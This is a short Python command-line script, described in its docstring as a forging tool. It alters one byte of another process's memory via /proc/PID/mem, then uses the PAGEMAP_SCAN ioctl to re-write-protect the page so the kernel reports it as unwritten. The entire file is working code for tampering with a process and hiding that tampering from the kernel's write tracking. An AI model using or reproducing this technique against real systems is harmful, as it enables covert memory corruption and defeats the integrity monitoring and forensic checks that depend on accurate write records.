"""Changes a byte of a process so that its kernel says it was not written: forge.py PID ADDRESS"""

import fcntl
import os
import struct
import sys

PAGEMAP_SCAN = 0xC0606610
PM_SCAN_WP_MATCHING, PAGE_IS_WPALLOWED, PAGE_IS_WRITTEN = 1, 1, 2

process, address = f"/proc/{sys.argv[1]}", int(sys.argv[2])
page = address & ~4095

memory = os.open(f"{process}/mem", os.O_RDWR)
byte = os.pread(memory, 1, address)[0]
os.pwrite(memory, bytes([byte ^ 1]), address)

# struct pm_scan_arg of linux/fs.h: to the next page, nothing told; of the page, what is protected.
scan = struct.pack("12Q", 96, PM_SCAN_WP_MATCHING, page, page + 4096, 0, 0, 0, 0, 0,
                   PAGE_IS_WPALLOWED | PAGE_IS_WRITTEN, 0, PAGE_IS_WRITTEN)
fcntl.ioctl(os.open(f"{process}/pagemap", os.O_RDONLY), PAGEMAP_SCAN, scan)
